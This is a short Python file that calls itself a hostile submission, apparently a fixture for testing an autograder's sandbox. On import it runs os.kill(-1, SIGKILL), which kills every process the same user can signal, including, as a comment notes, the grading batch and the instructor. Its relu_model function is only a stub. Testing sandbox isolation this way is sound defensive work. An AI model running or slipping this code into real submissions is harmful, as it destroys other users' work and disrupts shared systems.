"""Hostile submission: signal every process this uid may reach, as soon as it is imported."""
import os
import signal

os.kill(-1, signal.SIGKILL)  # outside a PID namespace of its own: the batch and the instructor


def relu_model(features, weights, biases):
    raise RuntimeError("still here")
